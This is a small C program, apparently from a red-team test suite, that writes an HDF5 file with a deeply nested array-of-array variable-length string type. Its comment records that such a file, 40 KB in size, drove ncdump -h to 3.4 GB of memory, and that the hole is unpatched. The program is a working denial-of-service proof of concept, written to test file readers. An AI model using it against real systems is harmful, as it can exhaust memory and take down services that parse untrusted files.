/* A root attribute whose type is an array of one element of an array of one element ...
 * DEPTH deep, of a variable-length string (red team s33 HG8: HDF5 copies the rest of such
 * a type at every level; 2,000 deep, 40 KB, took 3.4 GB in ncdump -h). Nothing patched.
 *
 * With a third argument `dataset`, a scalar dataset `v` of that type instead (for s33b
 * HH6, whose header gets a LINK message: see make.py's `linked-dataset`).
 *
 * Usage: deep OUT DEPTH [dataset]    (built against the system's libhdf5 1.10) */
#include <hdf5.h>
#include <stdlib.h>

int main(int argc, char **argv) {
    if (argc != 3 && argc != 4)
        return 2;
    int depth = atoi(argv[2]);
    hid_t access = H5Pcreate(H5P_FILE_ACCESS);
    H5Pset_libver_bounds(access, H5F_LIBVER_EARLIEST, H5F_LIBVER_LATEST);
    hid_t file = H5Fcreate(argv[1], H5F_ACC_TRUNC, H5P_DEFAULT, access);
    hid_t type = H5Tcopy(H5T_C_S1);
    H5Tset_size(type, H5T_VARIABLE);
    hsize_t one = 1;
    for (int i = 0; i < depth; i++) {
        hid_t array = H5Tarray_create2(type, 1, &one);
        H5Tclose(type);
        type = array;
    }
    hid_t scalar = H5Screate(H5S_SCALAR);
    if (argc == 4) {
        hid_t dataset = H5Dcreate2(file, "v", type, scalar, H5P_DEFAULT, H5P_DEFAULT,
                                   H5P_DEFAULT);
        if (dataset < 0)
            return 1;
        H5Dclose(dataset);
    } else {
        hid_t attribute = H5Acreate2(file, "a", type, scalar, H5P_DEFAULT, H5P_DEFAULT);
        if (attribute < 0)
            return 1;
        H5Aclose(attribute);
    }
    return H5Fclose(file) < 0;
}
